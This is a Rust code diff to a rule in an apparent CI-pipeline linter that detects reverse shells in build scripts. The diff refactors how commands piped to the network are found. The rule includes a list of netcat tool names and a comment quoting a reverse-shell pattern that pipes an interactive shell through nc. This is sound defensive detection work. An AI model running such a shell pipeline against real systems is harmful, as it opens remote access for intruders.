@@ -3,7 +3,7 @@ use lockgate_pipelines::model::Run;
 use lockgate_pipelines::shell::{Command, Effective, Script, Word};
 
 use crate::context::Context;
-use crate::scripts::{is_interpreter, scripts};
+use crate::scripts::{Pipelines, is_interpreter, scripts};
 
 rule! {
     /// # What it finds
@@ -57,12 +57,13 @@ const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd
 
 pub(super) fn check(cx: &Context<'_>, out: &mut Vec<Finding>) {
     for (run, script) in scripts(cx, WORDS) {
-        for (at, command) in script.commands.iter().enumerate() {
+        let pipelines = Pipelines::new(script);
+        for command in &script.commands {
             let Some(effective) = command.effective() else { continue };
             let what = on_device(command, &effective)
                 .or_else(|| netcat(&effective))
                 .or_else(|| socat(&effective))
-                .or_else(|| piped(script, at, &effective))
+                .or_else(|| piped(script, &pipelines, command, &effective))
                 .or_else(|| one_liner(&effective));
             out.extend(what.map(|what| finding(cx, run, command.span, what)));
         }
@@ -126,7 +127,7 @@ fn socat(effective: &Effective<'_>) -> Option<&'static str> {
 }
 
 /// `cat pipe | sh -i 2>&1 | nc host port > pipe`.
-fn piped(script: &Script, at: usize, effective: &Effective<'_>) -> Option<&'static str> {
+fn piped(script: &Script, pipelines: &Pipelines, command: &Command, effective: &Effective<'_>) -> Option<&'static str> {
     let interactive = effective.args.iter().any(|word| is_interactive(&word.literal_prefix()));
     if !interactive || !is_interpreter(&effective.name) {
         return None;
@@ -138,7 +139,7 @@ fn piped(script: &Script, at: usize, effective: &Effective<'_>) -> Option<&'stat
             secure || reader.name == "telnet" || NETCATS.contains(&reader.name.as_str())
         })
     };
-    script.downstream(at).any(network).then_some("a shell piped to the network")
+    pipelines.after(command).into_iter().any(network).then_some("a shell piped to the network")
 }
 
 /// `python -c 'import socket,subprocess,os; …'` and the like in Perl, Ruby and PHP.
